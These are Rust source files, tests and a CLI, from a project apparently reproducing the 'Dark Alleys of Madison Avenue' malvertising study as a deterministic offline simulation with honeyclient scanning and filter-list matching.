        .config(study_config(workers, engine, faults))
        .build()
        .expect("no resume requested")
        .run();
    (
        serde_json::to_string(&results.ads).expect("serializable"),
        results.summary().without_timings().to_json(),
    )
}

#[test]
fn study_output_byte_identical_across_engines_workers_and_faults() {
    // The acceptance matrix: engine × workers {1, 8} × faults {none,
    // heavy}. Within each fault profile, all four engine/worker combos
    // must agree byte for byte; across profiles the output legitimately
    // differs (faults are observable world behaviour).
    for faults in [None, FaultProfile::named("heavy")] {
        let tag = if faults.is_some() { "heavy" } else { "none" };
        let baseline = payload(1, ScriptEngine::TreeWalk, faults);
        for workers in [1usize, 8] {
            for engine in [ScriptEngine::TreeWalk, ScriptEngine::Vm] {
                let got = payload(workers, engine, faults);
                assert_eq!(
                    baseline.0, got.0,
                    "ad corpus diverges at workers={workers} engine={engine} faults={tag}"
                );
                assert_eq!(
                    baseline.1, got.1,
                    "run summary diverges at workers={workers} engine={engine} faults={tag}"
                );
            }
        }
    }
}
