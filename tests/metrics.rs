//! RunMetrics/RunSummary integration: the instrumentation layer agrees
//! with the study results it describes.

use malvertising::core::metrics::{RunSummary, StageId};
use malvertising::core::study::{Study, StudyConfig, StudyResults};
use std::sync::OnceLock;

/// One shared tiny study for the whole file.
fn shared() -> &'static (Study, StudyResults) {
    static CELL: OnceLock<(Study, StudyResults)> = OnceLock::new();
    CELL.get_or_init(|| {
        let study = Study::builder()
            .config(StudyConfig::tiny(606))
            .build()
            .expect("no resume requested");
        let results = study.run();
        (study, results)
    })
}

#[test]
fn summary_round_trips_through_serde() {
    let (_, results) = shared();
    let summary = results.summary();
    let json = summary.to_json();
    let back: RunSummary = serde_json::from_str(&json).expect("summary deserializes");
    assert_eq!(back, summary);
}

#[test]
fn timings_complete_and_in_pipeline_order() {
    let (_, results) = shared();
    let timings = results.metrics.timings();
    let stages: Vec<StageId> = timings.iter().map(|t| t.stage).collect();
    assert_eq!(stages, StageId::ALL, "one timing per stage, in order");
    // The total is the sum of the stages, and the honeyclient-heavy stages
    // actually took time.
    let sum: u64 = timings.iter().map(|t| t.wall_us).sum();
    assert_eq!(results.metrics.total_wall_us(), sum);
    assert!(results.metrics.stage_wall_us(StageId::Crawl).unwrap() > 0);
    assert!(results.metrics.stage_wall_us(StageId::Classify).unwrap() > 0);
}

#[test]
fn counters_consistent_with_results() {
    let (study, results) = shared();
    let c = results.metrics.counters;
    assert_eq!(c.unique_ads as usize, results.unique_ads());
    assert_eq!(c.ads_observed, results.total_observations);
    assert_eq!(c.page_loads, results.page_loads);
    let expected_loads = study.config.web.total_sites() as u64
        * study.config.crawl.schedule.loads_per_site();
    assert_eq!(c.page_loads, expected_loads);
    // Exactly one honeyclient execution per unique ad, and each one queries
    // the feeds for at least its own serve host.
    assert_eq!(c.oracle_executions, c.unique_ads);
    assert!(c.feed_lookups >= c.oracle_executions);
}

#[test]
fn filter_counters_tally_and_strip() {
    let (_, results) = shared();
    let c = results.metrics.counters;
    // Every iframe consulted the filter list; hits and misses partition the
    // lookups, and each miss evaluated at least zero candidate rules.
    assert!(
        c.filter_lookups > 0,
        "crawl never consulted the filter list"
    );
    assert_eq!(
        c.filter_cache_hits + c.filter_cache_misses,
        c.filter_lookups
    );
    assert!(c.filter_cache_hits > 0, "repeat visits never hit the memo");
    // The indexed matcher's whole point: far fewer rule evaluations than
    // lookups x list size (tiny worlds still have dozens of rules).
    assert!(c.filter_candidates_evaluated < c.filter_lookups * 10);
    // Stripping removes the scheduling-dependent split but keeps the
    // deterministic lookup total.
    let stripped = results.summary().without_timings();
    assert_eq!(stripped.counters.filter_lookups, c.filter_lookups);
    assert_eq!(stripped.counters.filter_cache_hits, 0);
    assert_eq!(stripped.counters.filter_cache_misses, 0);
    assert_eq!(stripped.counters.filter_candidates_evaluated, 0);
}

#[test]
fn summary_mirrors_results() {
    let (_, results) = shared();
    let summary = results.summary();
    assert_eq!(summary.unique_ads as usize, results.unique_ads());
    assert_eq!(summary.observations, results.total_observations);
    assert_eq!(summary.detected as usize, results.detected_ads().count());
    let category_total: u64 = summary.categories.values().sum();
    assert_eq!(category_total, summary.detected);
    assert_eq!(summary.counters, results.metrics.counters);
    assert_eq!(summary.timings, results.metrics.timings());
    // The legacy accessor is the typed summary's JSON.
    assert_eq!(results.summary_json(), summary.to_json());
}
