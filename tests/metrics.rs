//! RunMetrics/RunSummary integration: the instrumentation layer agrees
//! with the study results it describes, and the run-health time-series
//! keeps the same determinism discipline as the trace stream.

use malvertising::core::metrics::{RunSummary, StageId};
use malvertising::core::study::{Study, StudyConfig, StudyResults};
use malvertising::net::FaultProfile;
use malvertising::trace::{MetricsLog, MetricsRegistry};
use std::sync::OnceLock;

/// One shared tiny study for the whole file.
fn shared() -> &'static (Study, StudyResults) {
    static CELL: OnceLock<(Study, StudyResults)> = OnceLock::new();
    CELL.get_or_init(|| {
        let study = Study::builder()
            .config(StudyConfig::tiny(606))
            .build()
            .expect("no resume requested");
        let results = study.run();
        (study, results)
    })
}

#[test]
fn summary_round_trips_through_serde() {
    let (_, results) = shared();
    let summary = results.summary();
    let json = summary.to_json();
    let back: RunSummary = serde_json::from_str(&json).expect("summary deserializes");
    assert_eq!(back, summary);
}

#[test]
fn timings_complete_and_in_pipeline_order() {
    let (_, results) = shared();
    let timings = results.metrics.timings();
    let stages: Vec<StageId> = timings.iter().map(|t| t.stage).collect();
    assert_eq!(stages, StageId::ALL, "one timing per stage, in order");
    // The total is the sum of the stages, and the honeyclient-heavy stages
    // actually took time.
    let sum: u64 = timings.iter().map(|t| t.wall_us).sum();
    assert_eq!(results.metrics.total_wall_us(), sum);
    assert!(results.metrics.stage_wall_us(StageId::Crawl).unwrap() > 0);
    assert!(results.metrics.stage_wall_us(StageId::Classify).unwrap() > 0);
}

#[test]
fn counters_consistent_with_results() {
    let (study, results) = shared();
    let c = results.metrics.counters;
    assert_eq!(c.unique_ads as usize, results.unique_ads());
    assert_eq!(c.ads_observed, results.total_observations);
    assert_eq!(c.page_loads, results.page_loads);
    let expected_loads =
        study.config.web.total_sites() as u64 * study.config.crawl.schedule.loads_per_site();
    assert_eq!(c.page_loads, expected_loads);
    // Exactly one honeyclient execution per unique ad, and each one queries
    // the feeds for at least its own serve host.
    assert_eq!(c.oracle_executions, c.unique_ads);
    assert!(c.feed_lookups >= c.oracle_executions);
}

#[test]
fn filter_counters_tally_and_strip() {
    let (_, results) = shared();
    let c = results.metrics.counters;
    // Every iframe consulted the filter list; hits and misses partition the
    // lookups, and each miss evaluated at least zero candidate rules.
    assert!(
        c.filter_lookups > 0,
        "crawl never consulted the filter list"
    );
    assert_eq!(
        c.filter_cache_hits + c.filter_cache_misses,
        c.filter_lookups
    );
    assert!(c.filter_cache_hits > 0, "repeat visits never hit the memo");
    // The indexed matcher's whole point: far fewer rule evaluations than
    // lookups x list size (tiny worlds still have dozens of rules).
    assert!(c.filter_candidates_evaluated < c.filter_lookups * 10);
    // Stripping removes the scheduling-dependent split but keeps the
    // deterministic lookup total.
    let stripped = results.summary().without_timings();
    assert_eq!(stripped.counters.filter_lookups, c.filter_lookups);
    assert_eq!(stripped.counters.filter_cache_hits, 0);
    assert_eq!(stripped.counters.filter_cache_misses, 0);
    assert_eq!(stripped.counters.filter_candidates_evaluated, 0);
}

#[test]
fn summary_mirrors_results() {
    let (_, results) = shared();
    let summary = results.summary();
    assert_eq!(summary.unique_ads as usize, results.unique_ads());
    assert_eq!(summary.observations, results.total_observations);
    assert_eq!(summary.detected as usize, results.detected_ads().count());
    let category_total: u64 = summary.categories.values().sum();
    assert_eq!(category_total, summary.detected);
    assert_eq!(summary.counters, results.metrics.counters);
    assert_eq!(summary.timings, results.metrics.timings());
    // The legacy accessor is the typed summary's JSON.
    assert_eq!(results.summary_json(), summary.to_json());
}

/// Runs a tiny study with a live registry attached and returns the
/// boundary time-series plus the classified corpus.
fn metered_run(seed: u64, workers: usize, faults: Option<&str>) -> (MetricsLog, StudyResults) {
    let mut config = StudyConfig::tiny(seed);
    config.crawl.workers = workers;
    let metrics = MetricsRegistry::new();
    let study = Study::builder()
        .config(config)
        .faults(faults.map(|name| FaultProfile::named(name).expect("known profile")))
        .metrics(metrics.clone())
        .build()
        .expect("no resume requested");
    let results = study.run();
    (metrics.collect(), results)
}

#[test]
fn metrics_deterministic_payload_identical_across_worker_counts() {
    // The run-health series follows the trace discipline: stripping the
    // wall-clock envelope leaves a payload that is a pure function of the
    // study seed, byte-identical between a sequential and an 8-worker run.
    let (a, a_results) = metered_run(808, 1, None);
    let (b, b_results) = metered_run(808, 8, None);
    assert!(!a.is_empty(), "no boundary samples recorded");
    assert_eq!(
        a.deterministic_jsonl(),
        b.deterministic_jsonl(),
        "stripped metrics diverge across worker counts"
    );
    // Metering is pure observation: the classified corpora agree too.
    assert_eq!(
        serde_json::to_string(&a_results.ads).unwrap(),
        serde_json::to_string(&b_results.ads).unwrap()
    );
}

#[test]
fn metrics_deterministic_payload_survives_heavy_faults() {
    // Fault injection is seed-deterministic, so the retry/degradation
    // counters in the samples stay scheduling-free as well.
    let (a, _) = metered_run(909, 1, Some("heavy"));
    let (b, _) = metered_run(909, 8, Some("heavy"));
    assert!(!a.is_empty(), "no boundary samples recorded");
    assert_eq!(
        a.deterministic_jsonl(),
        b.deterministic_jsonl(),
        "stripped metrics diverge under heavy faults"
    );
    // Heavy faults actually show up in the deterministic error counters.
    let errors: u64 = a
        .samples()
        .iter()
        .filter_map(|s| s.det.counters.get("errors_total"))
        .copied()
        .max()
        .unwrap_or(0);
    assert!(
        errors > 0,
        "heavy faults left no trace in the error counters"
    );
}

#[test]
fn stripping_removes_every_wall_clock_field() {
    let (log, _) = metered_run(1010, 4, None);
    assert!(!log.is_empty());
    // The live series carries a wall envelope on every sample...
    for sample in log.samples() {
        let wall = sample.wall.as_ref().expect("live sample without envelope");
        assert!(wall.stage_elapsed_us > 0 || wall.jobs_per_sec >= 0.0);
        assert!(sample.stripped().wall.is_none());
    }
    // ...and the deterministic rendering serializes none of it.
    let det = log.deterministic_jsonl();
    for field in [
        "\"wall\"",
        "ts_us",
        "stage_elapsed_us",
        "jobs_per_sec",
        "eta_us",
        "job_hist",
        "checkpoint",
        "balance",
    ] {
        assert!(
            !det.contains(field),
            "wall-clock field {field} survived stripping"
        );
    }
    // Round trip: the stripped series parses back sample-for-sample.
    let back = MetricsLog::from_jsonl(&det).expect("stripped series parses");
    assert_eq!(back.len(), log.len());
    for (a, b) in back.samples().iter().zip(log.samples()) {
        assert_eq!(a.det, b.det);
    }
}

#[test]
fn samples_cover_every_shard_boundary_in_order() {
    let (log, results) = metered_run(1111, 4, None);
    let stages: Vec<&str> = log.samples().iter().map(|s| s.det.stage.as_str()).collect();
    let crawl_samples = stages.iter().filter(|s| **s == "crawl").count() as u64;
    let classify_samples = stages.iter().filter(|s| **s == "classify").count() as u64;
    assert!(crawl_samples > 0 && classify_samples > 0);
    // Crawl samples come before classify samples, shard counters ascend,
    // and the final sample of each stage covers the whole index space.
    let first_classify = stages.iter().position(|s| *s == "classify").unwrap();
    assert!(stages[..first_classify].iter().all(|s| *s == "crawl"));
    assert!(stages[first_classify..].iter().all(|s| *s == "classify"));
    for stage in ["crawl", "classify"] {
        let of_stage: Vec<_> = log
            .samples()
            .iter()
            .filter(|s| s.det.stage == stage)
            .collect();
        for (i, s) in of_stage.iter().enumerate() {
            assert_eq!(s.det.shard, i as u64 + 1, "shard numbering gap in {stage}");
            assert_eq!(s.det.shards_total, of_stage.len() as u64);
        }
        let last = of_stage.last().unwrap();
        assert_eq!(last.det.jobs_done, last.det.jobs_total);
    }
    let last_crawl = log
        .samples()
        .iter()
        .filter(|s| s.det.stage == "crawl")
        .next_back()
        .unwrap();
    assert_eq!(last_crawl.det.jobs_total, results.page_loads);
    assert_eq!(
        last_crawl.det.counters["unique_ads"] as usize,
        results.unique_ads()
    );
}

#[test]
fn health_report_matches_the_corpus() {
    let (log, results) = metered_run(1212, 4, None);
    let health = log.health();
    assert_eq!(health.stages.len(), 2);
    let crawl = &health.stages[0];
    let classify = &health.stages[1];
    assert_eq!(crawl.stage, "crawl");
    assert_eq!(classify.stage, "classify");
    assert_eq!(crawl.jobs_done, results.page_loads);
    assert_eq!(classify.jobs_done, results.unique_ads() as u64);
    // 4 workers parked once per shard, each job ran exactly once.
    assert_eq!(crawl.workers, 4);
    assert_eq!(crawl.parks, crawl.shards_done * 4);
    assert!(crawl.worker_jobs_min <= crawl.worker_jobs_max);
    assert!(crawl.jobs_per_sec > 0.0);
    assert!(crawl.balance_ratio >= 1.0);
    // The rendered report names both stages and the headline figures.
    let rendered = health.render();
    assert!(rendered.contains("[crawl]"));
    assert!(rendered.contains("[classify]"));
    assert!(rendered.contains("p50"));
}
