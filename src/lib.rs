//! # malvertising
//!
//! An end-to-end, deterministic reproduction of **"The Dark Alleys of
//! Madison Avenue: Understanding Malicious Advertisements"** (IMC 2014).
//!
//! This umbrella crate re-exports the whole workspace so applications can
//! depend on a single crate. The study runs entirely offline: the Web, the
//! ad economy, the blacklist feeds, and the AV engines are deterministic
//! simulations derived from a single `u64` seed, while the measurement
//! apparatus — crawler, EasyList matcher, emulated browser, honeyclient,
//! oracle, analyses — is real code operating on what those simulations
//! serve.
//!
//! ## Quickstart
//!
//! ```no_run
//! use malvertising::core::study::Study;
//! use malvertising::core::{analysis, report};
//!
//! let study = Study::builder().seed(2014).build().expect("no resume requested");
//! let results = study.run();
//! let table1 = analysis::table1(&results);
//! println!("{}", report::render_table1(&table1));
//! ```
//!
//! See the `examples/` directory for runnable scenarios and `DESIGN.md` for
//! the full system inventory and per-experiment index.

#![forbid(unsafe_code)]

pub use malvert_adnet as adnet;
pub use malvert_adscript as adscript;
pub use malvert_bench as bench;
pub use malvert_blacklist as blacklist;
pub use malvert_browser as browser;
pub use malvert_core as core;
pub use malvert_crawler as crawler;
pub use malvert_engine as engine;
pub use malvert_filterlist as filterlist;
pub use malvert_html as html;
pub use malvert_net as net;
pub use malvert_oracle as oracle;
pub use malvert_scanner as scanner;
pub use malvert_trace as trace;
pub use malvert_types as types;
pub use malvert_websim as websim;
