//! `malvert` — command-line front end for the malvertising study.
//!
//! ```text
//! malvert run   [--seed N] [--days N] [--refreshes N] [--workers N] [--json PATH] [--summary PATH]
//!               [--trace DIR] [--faults none|light|heavy] [--checkpoint DIR] [--resume DIR]
//!               [--checkpoint-every N] [--shard N] [--abort-after-shards N]
//!               [--metrics-out DIR] [--progress]
//! malvert serve [--seed N] [--impressions N] [--per-day N] [--workers N]
//!               [--faults none|light|heavy] [--cache N] [--ttl-days N] [--queue N]
//!               [--shard N] [--checkpoint DIR] [--resume DIR] [--checkpoint-every N]
//!               [--abort-after-shards N] [--metrics-out DIR] [--progress]
//!               [--queries PATH] [--state-out PATH]
//! malvert trace EVENTS.JSONL [--top N]
//! malvert health METRICS.JSONL|DIR
//! malvert bench-json [--out PATH] [--adscript-out PATH] [--study-out PATH] [--health-out PATH]
//!               [--urls N] [--iters N] [--compare OLD.json]
//! malvert scan  [--seed N] [--network IDX] [--slot N] [--day N]
//! malvert easylist [--seed N] [--coverage PCT]
//! malvert creative [--seed N] [--campaign N] [--variant N]
//! malvert world [--seed N]
//! ```

use malvertising::adnet::{AdWorld, AdWorldConfig};
use malvertising::core::study::{Study, StudyBuilder};
use malvertising::core::world::StudyWorld;
use malvertising::core::{analysis, easylist, report};
use malvertising::engine::SnapshotStore;
use malvertising::oracle::Oracle;
use malvertising::trace::{MetricsLog, MetricsRegistry, TraceCollector, TraceReport};
use malvertising::types::rng::SeedTree;
use malvertising::types::{AdNetworkId, CrawlSchedule, SimTime};
use malvertising::websim::WebConfig;
use serde::{Deserialize, Serialize};
use std::collections::HashMap;
use std::process::ExitCode;

fn main() -> ExitCode {
    let args: Vec<String> = std::env::args().skip(1).collect();
    let Some((command, rest)) = args.split_first() else {
        eprintln!("{USAGE}");
        return ExitCode::FAILURE;
    };
    // `trace` and `health` take positional paths, which the generic flag
    // parser rejects — dispatch them before parsing.
    if command == "trace" || command == "health" {
        let result = if command == "trace" {
            cmd_trace(rest)
        } else {
            cmd_health(rest)
        };
        return match result {
            Ok(()) => ExitCode::SUCCESS,
            Err(e) => {
                eprintln!("error: {e}");
                ExitCode::FAILURE
            }
        };
    }
    let flags = match parse_flags(rest) {
        Ok(f) => f,
        Err(e) => {
            eprintln!("error: {e}\n{USAGE}");
            return ExitCode::FAILURE;
        }
    };
    let result = match command.as_str() {
        "run" => cmd_run(&flags),
        "serve" => cmd_serve(&flags),
        "bench-json" => cmd_bench_json(&flags),
        "forensics" => cmd_forensics(&flags),
        "graph" => cmd_graph(&flags),
        "scan" => cmd_scan(&flags),
        "easylist" => cmd_easylist(&flags),
        "creative" => cmd_creative(&flags),
        "world" => cmd_world(&flags),
        "help" | "--help" | "-h" => {
            println!("{USAGE}");
            Ok(())
        }
        other => Err(format!("unknown command `{other}`\n{USAGE}")),
    };
    match result {
        Ok(()) => ExitCode::SUCCESS,
        Err(e) => {
            eprintln!("error: {e}");
            ExitCode::FAILURE
        }
    }
}

const USAGE: &str = "\
malvert — reproduction of 'The Dark Alleys of Madison Avenue' (IMC 2014)

USAGE:
  malvert run      [--seed N] [--days N] [--refreshes N] [--workers N] [--json PATH]
                   [--summary PATH] [--trace DIR] [--faults none|light|heavy]
                   [--checkpoint DIR] [--resume DIR] [--checkpoint-every N]
                   [--shard N] [--abort-after-shards N] [--metrics-out DIR]
                   [--progress] [--script-engine vm|tree-walk]
                   run the full study and print every table and figure plus
                   the run metrics; emits the RunSummary JSON on stdout
                   (--summary streams it pretty-printed to a file; --trace
                   records structured spans and writes DIR/events.jsonl plus
                   DIR/trace.json for chrome://tracing; --faults injects
                   seed-deterministic network chaos and reports per-class
                   error counters in the run metrics; --checkpoint snapshots
                   the exact completed prefix into DIR at shard boundaries,
                   and --resume continues a killed run from that snapshot,
                   byte-identical to an uninterrupted run — flags omitted on
                   resume default to the recipe recorded in the directory;
                   --abort-after-shards parks the run deterministically, the
                   kill/resume testing hook; --metrics-out samples run-health
                   metrics at every shard boundary into DIR/metrics.jsonl,
                   and --progress renders a live stderr heartbeat per shard)
  malvert serve    [--seed N] [--impressions N] [--per-day N] [--workers N]
                   [--faults none|light|heavy] [--cache N] [--ttl-days N]
                   [--queue N] [--shard N] [--checkpoint DIR] [--resume DIR]
                   [--checkpoint-every N] [--abort-after-shards N]
                   [--metrics-out DIR] [--progress] [--queries PATH]
                   [--state-out PATH]
                   run the continuous-scanning daemon: replay a
                   seed-deterministic impression stream, keep a bounded
                   verdict cache (--cache entries) with TTL re-scanning
                   (--ttl-days), shed scans beyond the per-shard queue bound
                   (--queue) under backpressure, and checkpoint the full
                   verdict state for kill/resume; --queries submits
                   flagged-or-not queries from a file (lines of `URL` or
                   `SHARD URL`, answered with provenance at that shard
                   boundary, printed as JSON lines); --state-out writes the
                   final deterministic state JSON (byte-identical at any
                   worker count)
  malvert trace    EVENTS.JSONL [--top N]
                   summarize a recorded trace: slowest spans, per-worker
                   skew, flagged-ad provenance
  malvert health   METRICS.JSONL|DIR
                   distill a run-health time-series (from --metrics-out, a
                   file or its directory): per-stage latency percentiles,
                   throughput over time, checkpoint overhead, worker balance
  malvert bench-json [--out PATH] [--adscript-out PATH] [--study-out PATH]
                   [--health-out PATH] [--urls N] [--iters N]
                   [--compare OLD.json]
                   time the indexed filter engine against the naive scan on
                   synthetic rule lists (100/1k/10k rules), the script
                   compile cache against cold compiles, and the bytecode VM
                   against the tree-walk interpreter on execution-heavy
                   creatives; writes machine-readable results (defaults
                   BENCH_filterlist.json and BENCH_adscript.json); with
                   --compare, also print a per-metric delta table (ns/script,
                   speedups, IC/shape hit rates) against a previously written
                   adscript report; with --study-out, also time the
                   end-to-end pipelined study on two corpus scales and write
                   BENCH_study-style JSON; with --health-out, run a metered
                   checkpointed study and write its shards/sec and
                   checkpoint-overhead figures as JSON
  malvert scan     [--seed N] [--network IDX] [--slot N] [--day N] [--har PATH]
                   honeyclient-scan one ad slot and print behaviour + verdicts
  malvert easylist [--seed N] [--coverage PCT]
                   print the generated EasyList-style filter list
  malvert creative [--seed N] [--campaign N] [--variant N] [--deobfuscate yes]
                   print a campaign's creative document; with --deobfuscate,
                   execute its scripts and print the eval trace (the decoded
                   payload behind obfuscation layers)
  malvert world    [--seed N]
                   print the generated world inventory
  malvert forensics [--seed N] [--days N]
                   per-campaign attribution table (ground-truth audit)
  malvert graph    [--seed N] [--days N] [--out PATH]
                   export the observed arbitration economy as Graphviz DOT";

/// Flags that take no value; their presence maps to `"true"`.
const BOOLEAN_FLAGS: &[&str] = &["progress"];

fn parse_flags(args: &[String]) -> Result<HashMap<String, String>, String> {
    let mut flags = HashMap::new();
    let mut iter = args.iter();
    while let Some(arg) = iter.next() {
        let Some(name) = arg.strip_prefix("--") else {
            return Err(format!("unexpected argument `{arg}`"));
        };
        if BOOLEAN_FLAGS.contains(&name) {
            flags.insert(name.to_string(), "true".to_string());
            continue;
        }
        let value = iter
            .next()
            .ok_or_else(|| format!("flag --{name} needs a value"))?;
        flags.insert(name.to_string(), value.clone());
    }
    Ok(flags)
}

fn flag<T: std::str::FromStr>(
    flags: &HashMap<String, String>,
    name: &str,
    default: T,
) -> Result<T, String> {
    match flags.get(name) {
        None => Ok(default),
        Some(v) => v
            .parse()
            .map_err(|_| format!("invalid value `{v}` for --{name}")),
    }
}

/// The run parameters recorded into a checkpoint directory at run start,
/// so `--resume DIR` reproduces the original invocation without repeating
/// its flags (explicit flags still override).
#[derive(Debug, Clone, Serialize, Deserialize)]
struct RunRecipe {
    // Every field carries a serde default: recipes recorded by older
    // binaries predate some of these fields, and `--resume` must accept
    // them rather than reject the whole document. Each default matches
    // the `Default` impl, so a missing field behaves exactly as if the
    // original invocation had omitted the flag.
    #[serde(default = "default_seed")]
    seed: u64,
    #[serde(default = "default_days")]
    days: u32,
    #[serde(default = "default_refreshes")]
    refreshes: u32,
    #[serde(default = "default_workers")]
    workers: usize,
    #[serde(default = "default_faults")]
    faults: String,
    #[serde(default = "default_shard")]
    shard: usize,
    #[serde(default = "default_checkpoint_every")]
    checkpoint_every: u64,
    /// Script engine name ("vm" or "tree-walk"). Recipes recorded before
    /// the bytecode VM existed default to "vm" — safe because the engines
    /// are observably equivalent.
    #[serde(default = "default_engine")]
    engine: String,
}

fn default_seed() -> u64 {
    2014
}

fn default_days() -> u32 {
    10
}

fn default_refreshes() -> u32 {
    2
}

fn default_workers() -> usize {
    8
}

fn default_faults() -> String {
    "none".to_string()
}

fn default_shard() -> usize {
    1024
}

fn default_checkpoint_every() -> u64 {
    1
}

fn default_engine() -> String {
    "vm".to_string()
}

impl Default for RunRecipe {
    fn default() -> Self {
        RunRecipe {
            seed: default_seed(),
            days: default_days(),
            refreshes: default_refreshes(),
            workers: default_workers(),
            faults: default_faults(),
            shard: default_shard(),
            checkpoint_every: default_checkpoint_every(),
            engine: default_engine(),
        }
    }
}

/// The document name the recipe is stored under, next to the snapshot.
const RECIPE_DOC: &str = "recipe.json";

/// Assembles the study builder for a recipe (everything except trace,
/// checkpoint wiring, and the abort hook, which depend on the flags).
fn recipe_builder(recipe: &RunRecipe) -> Result<StudyBuilder, String> {
    let faults = match recipe.faults.as_str() {
        "none" => None,
        name => Some(malvertising::net::FaultProfile::named(name).ok_or_else(|| {
            format!("invalid value `{name}` for --faults (expected none, light, or heavy)")
        })?),
    };
    let engine: malvertising::adscript::ScriptEngine = recipe.engine.parse().map_err(|_| {
        format!(
            "invalid value `{}` for --script-engine (expected vm or tree-walk)",
            recipe.engine
        )
    })?;
    Ok(Study::builder()
        .seed(recipe.seed)
        .schedule(CrawlSchedule::scaled(recipe.days, recipe.refreshes))
        .workers(recipe.workers)
        .faults(faults)
        .script_engine(engine)
        .shard_size(recipe.shard)
        .checkpoint_every(recipe.checkpoint_every))
}

fn cmd_run(flags: &HashMap<String, String>) -> Result<(), String> {
    // Resolve the recipe: defaults, then (on resume) the recorded recipe,
    // then explicit flags.
    let resume = flags.get("resume").cloned();
    let base = match &resume {
        Some(dir) => SnapshotStore::open(dir)
            .map_err(|e| format!("open checkpoint directory {dir}: {e}"))?
            .load::<RunRecipe>(RECIPE_DOC)
            .map_err(|e| format!("read {dir}/{RECIPE_DOC}: {e}"))?
            .unwrap_or_default(),
        None => RunRecipe::default(),
    };
    let recipe = RunRecipe {
        seed: flag(flags, "seed", base.seed)?,
        days: flag(flags, "days", base.days)?,
        refreshes: flag(flags, "refreshes", base.refreshes)?,
        workers: flag(flags, "workers", base.workers)?,
        faults: flags.get("faults").cloned().unwrap_or(base.faults),
        shard: flag(flags, "shard", base.shard)?,
        checkpoint_every: flag(flags, "checkpoint-every", base.checkpoint_every)?,
        engine: flags.get("script-engine").cloned().unwrap_or(base.engine),
    };

    let mut builder = recipe_builder(&recipe)?;
    let collector = flags.get("trace").map(|_| TraceCollector::new());
    if let Some(collector) = &collector {
        builder = builder.trace(collector.sink());
    }
    // The heartbeat feeds on boundary samples, so `--progress` alone still
    // enables the registry; it just isn't persisted without --metrics-out.
    let progress = flags.contains_key("progress");
    let metrics = (flags.contains_key("metrics-out") || progress).then(MetricsRegistry::new);
    if let Some(metrics) = &metrics {
        builder = builder.metrics(metrics.clone()).progress(progress);
    }
    if let Some(dir) = flags.get("checkpoint") {
        builder = builder.checkpoint(dir);
    }
    if let Some(dir) = &resume {
        builder = builder.resume(dir);
    }
    if let Some(n) = flags.get("abort-after-shards") {
        let n: u64 = n
            .parse()
            .map_err(|_| format!("invalid value `{n}` for --abort-after-shards"))?;
        builder = builder.abort_after_shards(n);
    }
    let study = builder.build()?;

    // Record the effective recipe next to the snapshots, so a later
    // `--resume` reproduces this invocation.
    let checkpoint_dir = flags.get("checkpoint").cloned().or_else(|| resume.clone());
    if let Some(dir) = &checkpoint_dir {
        SnapshotStore::open(dir)
            .and_then(|store| store.save(RECIPE_DOC, &recipe))
            .map_err(|e| format!("write {dir}/{RECIPE_DOC}: {e}"))?;
    }

    eprintln!(
        "running study: seed {}, {} sites, {} days x {} refreshes, {} workers{}",
        recipe.seed,
        study.config.web.total_sites(),
        recipe.days,
        recipe.refreshes,
        recipe.workers,
        if resume.is_some() { " (resumed)" } else { "" }
    );
    let results = match study.try_run() {
        Some(results) => results,
        None => {
            // A parked run still persists its partial time-series, so
            // `malvert health` can diagnose a killed run from what it wrote.
            if let (Some(dir), Some(metrics)) = (flags.get("metrics-out"), &metrics) {
                write_metrics_jsonl(dir, metrics)?;
            }
            let dir = checkpoint_dir.as_deref().unwrap_or("<checkpoint dir>");
            eprintln!(
                "run parked at a checkpoint boundary; continue with: malvert run --resume {dir}"
            );
            return Ok(());
        }
    };
    let trace_report = collector.map(TraceCollector::finish);

    println!(
        "corpus: {} unique ads / {} observations / {} page loads\n",
        results.unique_ads(),
        results.total_observations,
        results.page_loads
    );
    println!("{}", report::render_table1(&analysis::table1(&results)));
    println!(
        "{}",
        report::render_fig1(&analysis::fig1_network_ratios(&results, &study.world))
    );
    println!(
        "{}",
        report::render_fig2(&analysis::fig2_network_volume(&results, &study.world))
    );
    println!(
        "{}",
        report::render_cluster_split(&analysis::cluster_split(&results, &study.world))
    );
    println!(
        "{}",
        report::render_fig3(&analysis::fig3_categories(&results, &study.world))
    );
    let (fig4, generic) = analysis::fig4_tlds(&results, &study.world);
    println!("{}", report::render_fig4(&fig4, generic));
    println!("{}", report::render_fig5(&analysis::fig5_chains(&results)));
    println!(
        "{}",
        report::render_late_auction_tiers(&analysis::late_auction_tiers(&results, &study.world))
    );
    println!(
        "{}",
        report::render_sandbox(&analysis::sandbox_usage(&results))
    );
    let summary = match &trace_report {
        Some(report) => results.summary_with_trace(report),
        None => results.summary(),
    };
    println!("{}", report::render_run_metrics(&summary));
    println!("{}", summary.to_json());

    if let Some(dir) = flags.get("trace") {
        let report = trace_report.as_ref().expect("trace collected");
        let (events_path, chrome_path) = report
            .write_dir(std::path::Path::new(dir))
            .map_err(|e| format!("write trace to {dir}: {e}"))?;
        eprintln!(
            "wrote {} ({} events) and {}",
            events_path.display(),
            report.events().len(),
            chrome_path.display()
        );
    }
    if let Some(path) = flags.get("summary") {
        let file = std::fs::File::create(path).map_err(|e| format!("create {path}: {e}"))?;
        summary
            .to_writer(std::io::BufWriter::new(file))
            .map_err(|e| format!("write {path}: {e}"))?;
        eprintln!("wrote {path}");
    }
    if let Some(path) = flags.get("json") {
        let json =
            serde_json::to_string_pretty(&results.ads).map_err(|e| format!("serialize: {e}"))?;
        std::fs::write(path, &json).map_err(|e| format!("write {path}: {e}"))?;
        eprintln!("wrote {path} ({} bytes)", json.len());
    }
    if let (Some(dir), Some(metrics)) = (flags.get("metrics-out"), &metrics) {
        write_metrics_jsonl(dir, metrics)?;
    }
    Ok(())
}

/// Writes the registry's boundary samples as `DIR/metrics.jsonl` — one
/// sample per line, wall-clock envelope included (strip with
/// [`MetricsLog::deterministic_jsonl`] for byte-comparable series).
fn write_metrics_jsonl(dir: &str, metrics: &MetricsRegistry) -> Result<(), String> {
    let log = metrics.collect();
    std::fs::create_dir_all(dir).map_err(|e| format!("create {dir}: {e}"))?;
    let path = std::path::Path::new(dir).join("metrics.jsonl");
    std::fs::write(&path, log.to_jsonl()).map_err(|e| format!("write {}: {e}", path.display()))?;
    eprintln!("wrote {} ({} samples)", path.display(), log.len());
    Ok(())
}

/// The serve parameters recorded into a checkpoint directory at daemon
/// start (`serve-recipe.json`), so `--resume DIR` reproduces the original
/// invocation without repeating its flags — same contract as the run
/// recipe, including per-field serde defaults for forward compatibility.
#[derive(Debug, Clone, Serialize, Deserialize)]
struct ServeRecipe {
    #[serde(default = "default_seed")]
    seed: u64,
    #[serde(default = "default_impressions")]
    impressions: u64,
